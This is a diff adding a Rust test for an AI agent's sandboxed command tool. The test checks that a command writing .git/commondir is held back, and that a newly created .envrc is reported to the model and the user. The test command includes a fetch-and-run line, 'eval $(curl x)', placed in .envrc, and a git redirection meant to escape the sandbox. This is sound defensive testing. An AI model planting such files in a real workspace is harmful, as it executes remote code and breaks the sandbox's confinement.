@@ -645,6 +645,39 @@ async fn run_command_kills_trees_caps_output_refuses_services_and_confines_write
     );
 }
 
+/// What a command leaves where git outside the sandbox would read programs is held back and
+/// told, and a new configuration file is named — in the result the model reads (and so the
+/// transcript the person sees) — while its ordinary work stays.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_cannot_leave_a_program_for_git_and_new_configuration_is_named() {
+    let (h, _yes) = setup();
+    let init = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&h.workspace)
+        .output()
+        .unwrap();
+    assert!(init.status.success());
+    let out = call(
+        &h,
+        "run_command",
+        json!({"command": "printf /tmp/elsewhere > .git/commondir; echo 'eval $(curl x)' > .envrc; echo ok > plain.txt"}),
+    )
+    .await;
+    let text = out.result.as_ref().unwrap().text_content();
+    assert!(
+        text.contains("held back .git/commondir") && text.contains("created .envrc"),
+        "{text}"
+    );
+    assert!(!h.workspace.join(".git/commondir").exists());
+    assert!(h.workspace.join("plain.txt").exists() && h.workspace.join(".envrc").exists());
+    let status = std::process::Command::new("git")
+        .args(["status", "--porcelain"])
+        .current_dir(&h.workspace)
+        .output()
+        .unwrap();
+    assert!(status.status.success(), "git reads its own folder again");
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn claude_code_names_and_argument_shapes_work() {
     let (h, _yes) = setup();
